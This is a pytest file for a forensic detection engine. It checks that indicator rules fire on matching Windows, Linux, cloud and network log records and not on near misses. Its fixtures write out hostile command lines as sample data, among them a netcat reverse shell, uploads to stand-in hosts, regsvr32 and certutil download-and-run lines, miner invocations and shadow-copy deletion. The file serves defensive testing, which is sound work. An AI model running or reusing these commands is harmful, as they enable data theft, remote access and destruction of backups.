"""Rules of the frames and of their other explanations: each fires on its record and not on a near miss."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from frame_cases import SYSMON, event, record, started

from record_builders import Made, store_maker
from wigmore.model.protocols import Record
from wigmore.records.indicators import match
from wigmore.records.rules import OWN_RULES, Indicator, load_indicators

DEFENDER = "Microsoft-Windows-Windows Defender"
CMD = "C:\\Windows\\System32\\cmd.exe"
WINWORD = "C:\\Office16\\WINWORD.EXE"
LOG, USN, SRUM, WEB = "windows.eventlog", "windows.ntfs.usn", "windows.srum.network_usage", "web.access"
PREFETCH, SOFTWARE, HISTORY = "windows.prefetch", "windows.registry.installed_software", "linux.history"
M365, TALK = "cloud.microsoft365", "network.conversation"
Rows = Sequence[Record]


def at(minute: int) -> str:
    return f"2026-03-02T{10 + minute // 60:02d}:{minute % 60:02d}:00Z"


def of(**values: Any) -> Record:
    return record(values, at(1))


def many(count: int, make: Any) -> list[Record]:
    return [make(n) for n in range(count)]


def by(line: str, parent: str, image: str = CMD) -> Record:
    return started(line, image, ParentImage=parent)


def change(n: int, name: str, *reasons: str, minute: int = 1) -> Record:
    values = {"name": name, "reasons": list(reasons), "file_record": n, "file_sequence": 1, "usn": n}
    return record(values, at(minute))


def net(image: str, address: str, **more: Any) -> Record:
    return event(3, SYSMON, at(1), Image=image, Initiated=True, DestinationIp=address, **more)


def sent(**more: Any) -> Record:
    return of(**{"client_address": "10.0.0.5", "server_address": "198.51.100.7", "server_port": 443, **more})


def read_file(n: int, process: str = "C:\\Windows\\explorer.exe") -> Record:
    name = f"C:\\s\\{n}.docx"
    more = {"ObjectType": "File", "ObjectName": name, "SubjectUserName": "a", "ProcessName": process}
    return event(4663, at=at(n // 10), **more)


def blocked(**more: Any) -> Record:
    return event(1116, DEFENDER, **{"Threat Name": "Trojan:Win32/X", "Path": "file:_C:\\x.exe", **more})


PS, TMP = "C:\\Windows\\System32\\powershell.exe", "C:\\Users\\Public\\a.exe"
RUN7, SVC = "7z.exe a d:\\b.7z c:\\d", "C:\\Users\\Public\\svchost.exe"
KEY = "HKU\\S-1-5-21-1_Classes\\mscfile\\shell\\open\\command"
IN = {"Operation": "UserLoggedIn", "UserId": "a@example.com"}
GET = "GET /app?patient_id={} HTTP/1.1"
BEACON = many(20, lambda n: net("C:\\Users\\a\\AppData\\Local\\Temp\\q.exe", "198.51.100.7"))

# rule: artifact, records on which it fires, records on which it does not
RULES: dict[str, tuple[str, Rows, Rows]] = {
    "act.profile_packed": (
        LOG,
        [started("7z a d:\\x.7z C:\\Users\\a\\Documents")],
        [started("7z a d:\\x.7z C:\\logs")],
    ),
    "act.files_staged": (
        LOG,
        [started("robocopy D:\\x C:\\Users\\Public\\d /E")],
        [started("robocopy D:\\x E:\\d /E")],
    ),
    "act.staged_then_packed": (
        LOG,
        [started("xcopy D:\\x C:\\Users\\Public\\d", at=at(1)), started("7z a C:\\Users\\Public\\d.7z", at=at(5))],
        [started("xcopy D:\\x C:\\Users\\Public\\d", at=at(1)), started("7z a C:\\Users\\Public\\d.7z", at=at(90))],
    ),
    "act.archive_then_gone": (
        USN,
        [change(1, "a.7z", "FILE_CREATE"), change(1, "a.7z", "RENAME_OLD_NAME", minute=9)],
        [change(1, "a.7z", "FILE_CREATE"), change(2, "a.7z", "RENAME_OLD_NAME", minute=9)],
    ),
    "hist.archive_staged": (
        HISTORY,
        [of(command="tar czf /tmp/x.tgz /home/a")],
        [of(command="tar czf /srv/x.tgz /home/a")],
    ),
    "act.sent_by_protocol": (
        LOG, [started("curl -T a.zip ftp://x.example/")], [started("curl -T a.zip ftp://10.0.0.9/")],
    ),
    "hist.sent_by_protocol": (
        HISTORY, [of(command="nc x.example 9000 < a.tgz")], [of(command="nc 192.168.0.4 9000 < a.tgz")],
    ),
    "srum.much_sent": (
        SRUM,
        [of(application=TMP, application_name="a.exe", bytes_sent=200000000)],
        [of(application="x", application_name="onedrive.exe", bytes_sent=200000000)],
    ),
    "act.records_read": (
        LOG, many(120, read_file), many(120, lambda n: read_file(n, "C:\\Windows\\System32\\SearchProtocolHost.exe")),
    ),
    "act.database_export": (LOG, [started("pg_dump -f x.sql db")], [by("pg_dump -f x.sql db", "C:\\W\\svchost.exe")]),
    "hist.database_export": (HISTORY, [of(command="mysqldump db > x")], [of(command="mysql db < x")]),
    "act.opened_from_mail": (
        LOG,
        [started("wscript C:\\Users\\a\\AppData\\Local\\Temp\\Temp1_bill.zip\\bill.js")],
        [started("wscript C:\\Admin\\bill.js")],
    ),
    "prefetch.opened_from_mail": (
        PREFETCH,
        [of(executable="B.EXE", executable_path="\\V\\TEMP\\TEMP1_BILL.ZIP\\B.EXE")],
        [of(executable="B.EXE", executable_path="\\V\\TEMP\\B.EXE")],
    ),
    "act.document_then_network": (
        LOG, [by("powershell x", WINWORD, PS), net(PS, "198.51.100.7")],
        [by("powershell x", WINWORD, PS), net(PS, "10.1.1.1")],
    ),
    "act.remote_content": (
        LOG, [started("regsvr32 /s /i:http://x.example/a.sct scrobj.dll")], [started("regsvr32 /s C:\\W\\a.dll")],
    ),
    "act.fetched_then_ran": (
        LOG,
        [started("certutil -urlcache -f http://x.example/a a.exe", at=at(1)), started("a", TMP, at=at(5))],
        [started("certutil -urlcache -f http://x.example/a a.exe", at=at(1)), started("a", TMP, at=at(30))],
    ),
    "act.foreign_maker": (
        LOG,
        [event(1, SYSMON, Image=SVC, Company="Acme", OriginalFileName="x.exe")],
        [event(1, SYSMON, Image="C:\\Windows\\System32\\wermgr.exe", Company="Microsoft", OriginalFileName="Other")],
    ),
    "act.beacon": (LOG, BEACON, BEACON[:19]),
    "act.shell_then_connected": (
        LOG,
        [started("nc.exe 198.51.100.7 443 -e cmd.exe", at=at(1)), net("C:\\t\\nc.exe", "198.51.100.7")],
        [started("nc.exe 198.51.100.7 443", at=at(1)), net("C:\\t\\nc.exe", "198.51.100.7")],
    ),
    "act.miner_line": (
        LOG, [started("x.exe -o stratum+tcp://p:3")], [started("xmrig --bench=1M --donate-level 1 --benchmark ")],
    ),
    "hist.miner_line": (HISTORY, [of(command="./xmrig -o p.example:3333")], [of(command="apt search xmrig")]),
    "prefetch.miner": (
        PREFETCH,
        [of(executable="XMRIG.EXE", executable_path="X")],
        [of(executable="X.EXE", executable_path="X")],
    ),
    "srum.miner": (
        SRUM,
        [of(application="x", application_name="xmrig.exe", bytes_sent=9)],
        [of(application="x", application_name="xmrig.exe", bytes_sent=0)],
    ),
    "act.hijack_then_elevated": (
        LOG,
        [event(13, SYSMON, at(1), TargetObject=KEY), started("c", at=at(1), ParentImage="C:\\W\\eventvwr.exe")],
        [event(13, SYSMON, at(1), TargetObject=KEY), started("c", at=at(9), ParentImage="C:\\W\\eventvwr.exe")],
    ),
    "act.new_credentials_then_remote": (
        LOG,
        [event(4624, at=at(1), LogonType="9", LogonProcessName="seclogo", SubjectUserName="a"),
         event(4648, at=at(2), TargetServerName="SRV", ProcessName="C:\\x.exe")],
        [event(4624, at=at(1), LogonType="9", LogonProcessName="seclogo", SubjectUserName="a"),
         event(4648, at=at(2), TargetServerName="localhost", ProcessName="C:\\x.exe")],
    ),
    "ntfs.overwritten_and_renamed": (
        USN,
        many(30, lambda n: change(n, f"{n}.docx.k7q", "DATA_OVERWRITE", "RENAME_NEW_NAME")),
        many(30, lambda n: change(n, f"{n}.docx.gpg", "DATA_OVERWRITE", "RENAME_NEW_NAME")),
    ),
    "ntfs.mass_second_ending": (
        USN,
        many(50, lambda n: change(n, f"{n}.docx.k7q", "RENAME_NEW_NAME")),
        many(50, lambda n: change(n, f"{n}.docx.k7q", "RENAME_NEW_NAME", minute=n * 5)),
    ),
    "act.many_second_endings": (
        LOG,
        many(30, lambda n: event(11, SYSMON, Image=TMP, TargetFilename=f"C:\\d\\{n}.docx.k7q")),
        many(30, lambda n: event(11, SYSMON, Image=TMP, TargetFilename=f"C:\\d\\{n}.docx")),
    ),
    "act.note_written": (
        LOG,
        [event(11, SYSMON, Image=TMP, TargetFilename="C:\\d\\HOW_TO_DECRYPT.txt")],
        [event(11, SYSMON, Image=TMP, TargetFilename="C:\\d\\how to cook.txt")],
    ),
    "act.services_stopped": (
        LOG, many(5, lambda n: started(f"net stop sql{n}")), many(5, lambda n: started(f"net stop spooler{n}")),
    ),
    "act.capture_started": (LOG, [started("tshark.exe -i 1 -w a.pcap")], [started("tshark.exe -D")]),
    "act.others_traffic": (LOG, [started("ettercap.exe -T -M arp")], [started("tshark.exe -i 1")]),
    "hist.capture_started": (HISTORY, [of(command="tcpdump -i eth0 -w a")], [of(command="tcpdump -i lo -w a")]),
    "prefetch.capture_tool": (
        PREFETCH, [of(executable="DUMPCAP.EXE", executable_path="X")], [of(executable="CALC.EXE", executable_path="X")],
    ),
    "other.packed_by_backup": (LOG, [by(RUN7, "C:\\V\\veeamagent.exe")], [by(RUN7, "C:\\Windows\\explorer.exe")]),
    "other.packed_often": (LOG, many(4, lambda n: started(RUN7, at=at(n))), many(3, lambda n: started(RUN7, at=at(n)))),
    "other.packing_failed": (
        LOG, [event(4689, ProcessName="C:\\7z.exe", Status="0x2")],
        [event(4689, ProcessName="C:\\7z.exe", Status="0x0")],
    ),
    "task.packs_or_copies": (
        "windows.scheduled_task",
        [of(task_name="t", command_line="robocopy a b")],
        [of(task_name="t", command_line="defrag c:")],
    ),
    "reg.backup_installed": (SOFTWARE, [of(name="Veeam Agent")], [of(name="7-Zip")]),
    "other.sent_by_backup": (
        SRUM,
        [of(application="x", application_name="onedrive.exe", bytes_sent=200000000)],
        [of(application="x", application_name="onedrive.exe", bytes_sent=2)],
    ),
    "other.sent_inside": (LOG, [started("curl -T a http://10.0.0.2/")], [started("curl -T a http://198.51.100.7/")]),
    "other.records_read_by_service": (
        LOG, many(50, lambda n: read_file(n, "C:\\W\\MsMpEng.exe")), many(50, read_file),
    ),
    "other.export_scheduled": (LOG, [by("bcp t out x", "C:\\S\\sqlagent.exe")], [by("bcp t out x", CMD)]),
    "other.start_blocked": (LOG, [blocked(**{"Execution ID": "1"})], [blocked(**{"Execution ID": "3"})]),
    "other.test_file": (LOG, [blocked(**{"Threat Name": "Virus:DOS/EICAR_Test_File"})], [blocked()]),
    "other.content_not_allowed": (
        "windows.registry.office_trust", [of(path="a", content_enabled=False)], [of(path="a", content_enabled=True)],
    ),
    "other.proxy_by_installer": (
        LOG,
        [by("regsvr32 a.dll", "C:\\Windows\\System32\\msiexec.exe", "C:\\W\\regsvr32.exe")],
        [by("regsvr32 a.dll", "C:\\Program Files\\Office\\WINWORD.EXE", "C:\\W\\regsvr32.exe")],
    ),
    "other.proxy_by_logon_script": (LOG, [by("wmic os get", "C:\\W\\gpscript.exe")], [by("wmic os get", CMD)]),
    "other.fetched_from_vendor": (
        LOG, [started("curl https://download.microsoft.com/x")], [started("curl https://microsoft.com.example/x")],
    ),
    "other.proxy_failed": (
        LOG, [event(4689, ProcessName="C:\\W\\mshta.exe", Status="0x1")],
        [event(4689, ProcessName="C:\\W\\mshta.exe", Status="0x0")],
    ),
    "other.own_version": (
        LOG,
        [event(1, SYSMON, Image=SVC, Company="Microsoft Corporation", OriginalFileName="svchost.exe")],
        [event(1, SYSMON, Image=SVC, Company="Microsoft Corporation", OriginalFileName="other.exe")],
    ),
    "other.known_content": (
        "lists.known", [of(known="good", hash="0")], [of(known="bad", hash="0")],
    ),
    "other.second_windows": (LOG, [started("s", "D:\\Windows.old\\System32\\svchost.exe")], [started("s", SVC)]),
    "other.connected_inside": (LOG, [net(PS, "10.0.0.9")], [net(PS, "198.51.100.7")]),
    "other.products_report": (
        LOG,
        many(20, lambda n: net("C:\\Program Files\\P\\p.exe", "198.51.100.7")),
        many(20, lambda n: net("C:\\Program Files\\P\\p.exe", "10.0.0.7")),
    ),
    "other.name_without_answer": (
        LOG, [event(22, SYSMON, Image=PS, QueryName="x", QueryStatus="9003")],
        [event(22, SYSMON, Image=PS, QueryName="x", QueryStatus="0")],
    ),
    "other.miner_blocked": (
        LOG,
        [blocked(**{"Threat Name": "Trojan:Win32/CoinMiner", "Execution ID": "1"})],
        [blocked(**{"Threat Name": "Trojan:Win32/CoinMiner", "Execution ID": "3"})],
    ),
    "other.miner_tried": (LOG, [started("xmrig.exe --bench=1M")], [started("xmrig.exe -o p:1")]),
    "reg.miner_managed": (SOFTWARE, [of(name="NiceHash Miner")], [of(name="Blender")]),
    "other.second_account": (
        LOG,
        [event(4648, SubjectUserName="a", ProcessName="C:\\W\\runas.exe")],
        [event(4648, SubjectUserName="HOST$", ProcessName="C:\\W\\runas.exe")],
    ),
    "other.delegated": (
        LOG,
        many(5, lambda n: event(4648, SubjectUserName="a", ProcessName="C:\\W\\w3wp.exe")),
        many(4, lambda n: event(4648, SubjectUserName="a", ProcessName="C:\\W\\w3wp.exe")),
    ),
    "other.security_scanner": (LOG, [by("cmd /c id", "C:\\N\\nessusd.exe")], [by("cmd /c id", CMD)]),
    "other.space_freed": (
        LOG, [by("vssadmin delete shadows /all", "C:\\V\\veeamagent.exe")], [by("vssadmin delete shadows /all", CMD)],
    ),
    "ntfs.owner_encrypted": (USN, [change(1, "a.docx.gpg", "FILE_CREATE")], [change(1, "a.docx.k7q", "FILE_CREATE")]),
    "ntfs.conflict_copies": (
        USN,
        many(5, lambda n: change(n, f"a (conflicted copy {n}).docx", "FILE_CREATE")),
        many(5, lambda n: change(n, f"a copy {n}.docx", "FILE_CREATE")),
    ),
    "reg.encryption_installed": (SOFTWARE, [of(name="AxCrypt 2")], [of(name="7-Zip")]),
    "other.capture_of_own": (LOG, [started("pktmon start --capture")], [started("tshark -i 1 -w a")]),
    "other.capture_by_product": (LOG, [by("tshark -i 1", "C:\\W\\msdt.exe")], [by("tshark -i 1", CMD)]),
    "capture.file_sent_out": (
        "network.file",
        [sent(direction="to the server", size=5000, name="a", host="x.example")],
        [sent(direction="to the server", size=5000, name="a", host="update.microsoft.com")],
    ),
    "capture.large_upload": (
        TALK,
        [sent(payload_up=9000000, payload_down=5)],
        [sent(payload_up=9000000, payload_down=9000000)],
    ),
    "capture.upload_to_maker": (
        TALK,
        [sent(payload_up=9000000, host="icloud.com")],
        [sent(payload_up=9000000, host="noticloud.com")],
    ),
    "capture.upload_refused": ("network.http", [sent(method="POST", status=403)], [sent(method="POST", status=200)]),
    "capture.names_of_products": (
        "network.dns",
        many(5, lambda n: sent(longest_label=30, domain="sophosxl.net", name=str(n))),
        many(5, lambda n: sent(longest_label=30, domain="t.example", name=str(n))),
    ),
    "web.records_in_number": (
        WEB,
        many(100, lambda n: of(client="192.0.2.1", status=200, request=GET.format(n + 10))),
        many(100, lambda n: of(client="192.0.2.1", status=200, request=GET.format(10))),
    ),
    "web.records_refused": (
        WEB,
        many(20, lambda n: of(client="192.0.2.1", status=403, request=GET.format(n + 10))),
        many(20, lambda n: of(client="192.0.2.1", status=200, request=GET.format(n + 10))),
    ),
    "web.records_by_crawler": (
        WEB,
        many(20, lambda n: of(client="c", status=200, request=f"GET /documents/{n + 10} H", user_agent="xbot/1")),
        many(20, lambda n: of(client="c", status=200, request=f"GET /documents/{n + 10} H", user_agent="Mozilla")),
    ),
    "cloud.files_in_number": (
        M365,
        many(100, lambda n: of(Operation="FileDownloaded", UserId="a", ObjectId=str(n))),
        many(100, lambda n: of(Operation="FileModified", UserId="a", ObjectId=str(n))),
    ),
    "cloud.files_by_client": (
        M365,
        many(20, lambda n: of(Operation="FileSyncDownloadedFull", UserId="a", ObjectId=str(n))),
        many(20, lambda n: of(Operation="FileDownloaded", UserId="a", ObjectId=str(n), UserAgent="Mozilla")),
    ),
    "capture.periodic_to_maker": (
        TALK,
        many(20, lambda n: sent(transport="tcp", bytes=300, host="a.microsoft.com")),
        many(20, lambda n: sent(transport="tcp", bytes=300, host="x.example")),
    ),
    "capture.mining_unanswered": (
        TALK,
        [sent(protocol="Mining", payload_up=5)],
        [sent(protocol="Mining", payload_down=5)],
    ),
    "cloud.many_addresses": (
        M365, many(3, lambda n: of(**IN, ClientIP=f"192.0.2.{n}")), many(3, lambda n: of(**IN, ClientIP="192.0.2.1")),
    ),
    "cloud.judged_risky": (
        "cloud.azure",
        [of(userPrincipalName="a", riskLevelDuringSignIn="high", status={"errorCode": 0})],
        [of(userPrincipalName="a", riskLevelDuringSignIn="high", status={"errorCode": 50126})],
    ),
    "cloud.confirmed_compromised": (
        "cloud.azure", [of(userPrincipalName="a", riskState="confirmedCompromised")],
        [of(userPrincipalName="a", riskState="dismissed")],
    ),
    "cloud.sign_in_then_diverted": (
        M365,
        [record(IN, at(1)), record({**IN, "Operation": "New-InboxRule", "Parameters": "ForwardTo x@y"}, at(9))],
        [record(IN, at(1)), record({**IN, "Operation": "New-InboxRule", "Parameters": "MarkAsRead"}, at(9))],
    ),
    "mail.security_notice": (
        "mail.message",
        [of(from_domain="accounts.google.com", subject="Security alert")],
        [of(from_domain="accounts.google.com.example", subject="Security alert")],
    ),
    "cloud.known_device": (
        "cloud.azure",
        [of(userPrincipalName="a", deviceDetail={"isManaged": True})],
        [of(userPrincipalName="a", deviceDetail={"isManaged": False})],
    ),
    "cloud.sign_in_refused": (
        M365, many(3, lambda n: of(Operation="UserLoginFailed", UserId="a", ClientIP="x")),
        many(3, lambda n: of(**IN, ClientIP="x")),
    ),
    "cloud.by_application": (M365, [of(**IN, UserAgent="Outlook-iOS/2")], [of(**IN, UserAgent="Mozilla/5.0")]),
    "standing.windows_accounts": (
        LOG,
        [event(4624, LogonType="2", TargetUserName=u) for u in ("a", "b")],
        [event(4624, LogonType="2", TargetUserName=u) for u in ("a", "DWM-1")],
    ),
    "standing.linux_accounts": (
        "linux.wtmp", [of(event="login", user=u) for u in ("a", "b")],
        [of(event="login", user="a"), of(event="logout", user="b")],
    ),
    "standing.after_acquisition": (LOG, [event(1, at="2026-03-09T10:00:00Z")], [event(1, at="2026-03-01T10:00:00Z")]),
    "standing.collector": (PREFETCH, [of(executable="KAPE.EXE")], [of(executable="TAPE.EXE")]),
}  # fmt: skip
FILES = {"other.known_content": "C/Users/Public/svchost.exe"}


@pytest.fixture(scope="module")
def indicators() -> dict[str, Indicator]:
    return load_indicators([OWN_RULES])


@pytest.fixture
def filled(tmp_path: Path) -> Iterator[Made]:
    yield from store_maker(tmp_path)


@pytest.mark.parametrize("name", sorted(RULES))
def test_a_rule_fires_on_its_record_and_not_on_a_near_miss(
    name: str, filled: Made, indicators: dict[str, Indicator]
) -> None:
    artifact, hits, misses = RULES[name]
    store = filled(list(hits), "src-hit", FILES.get(name, "log"), artifact)
    filled(list(misses), "src-miss", FILES.get(name, "log"), artifact)
    asked = {"acquired": "2026-03-04T08:00:00Z"}
    assert match(store, indicators[name], "src-hit", asked), "does not fire"
    assert not match(store, indicators[name], "src-miss", asked), "fires on the near miss"
